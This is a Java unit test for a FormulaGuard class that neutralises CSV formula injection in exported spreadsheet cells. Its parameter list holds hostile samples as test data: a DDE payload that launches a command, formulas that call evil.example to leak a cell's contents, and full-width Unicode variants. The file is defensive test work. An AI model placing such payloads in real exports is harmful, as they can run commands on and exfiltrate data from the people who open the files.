package dev.promptlooper.projector.query;

import static org.assertj.core.api.Assertions.assertThat;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;

class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1)", "=IMPORTXML(\"http://evil.example\")", "-2+3+cmd|' /C calc'!A0",
        "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", "=\"a\",\"b\"", "=1\r\n=2"})
    void s42CellThatASpreadsheetWouldRunIsText(String cell) throws IOException {
        // When
        StringWriter file = new StringWriter();
        try (CSVPrinter printer = new CSVPrinter(file, CSVFormat.RFC4180)) {
            printer.printRecord(FormulaGuard.of(Arrays.asList("before", cell, null, "after")));
        }
        // Then
        List<String> read;
        try (CSVParser parser = CSVParser.parse(file.toString(), CSVFormat.RFC4180)) {
            read = parser.getRecords().getFirst().toList();
        }
        assertThat(read).containsExactly("before", "'" + cell, "", "after");
    }

    @Test
    void s42NumbersAndHarmlessTextsStayAsTheyAre() {
        assertThat(FormulaGuard.of(Arrays.asList(-1.5, 42L, null, "a=b", "1-2", "", "'quoted", "{\"t\":-1}")))
                .containsExactly(-1.5, 42L, null, "a=b", "1-2", "", "'quoted", "{\"t\":-1}");
    }
}
